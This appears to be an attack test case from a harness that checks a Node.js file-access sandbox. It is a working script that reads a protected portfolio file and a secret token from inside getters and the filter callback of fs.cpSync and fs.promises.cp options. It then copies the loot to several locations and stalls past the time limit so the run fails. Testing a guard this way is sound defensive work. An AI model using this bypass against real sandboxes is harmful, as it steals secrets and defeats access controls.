/* @attack {"title": "read the candidates file and the token from inside cpSync's options getters and filter (the guard's wrappers stand down while cp runs)", "maxSeconds": 20} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();
const CANDIDATES = 'data/lakehouse/portfolio_candidates.json';

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

fs.writeFileSync(`${run}/a.txt`, 'a\n');
const stolen = [];
const grab = (label) => {
  for (const p of [CANDIDATES, 'secrets/token.txt']) {
    try {
      stolen.push([`${label} ${p}`, fs.readFileSync(p, 'utf8')]);
    } catch (error) {
      console.log(`${label} ${p}: ${error.code}`);
    }
  }
};
const options = {
  get force() {
    grab('force getter');
    return true;
  },
  get recursive() {
    grab('recursive getter');
    return false;
  },
  filter() {
    grab('filter');
    return true;
  },
};
for (const [how, copy] of [
  ['cpSync', () => fs.cpSync(`${run}/a.txt`, `${run}/b.txt`, options)],
  ['promises.cp', () => fs.promises.cp(`${run}/a.txt`, `${run}/c.txt`, options)],
]) {
  try {
    await copy();
  } catch (error) {
    console.log(`${how}: ${error.code}`);
  }
}
for (const [how, text] of stolen) await exfiltrate(how, text);
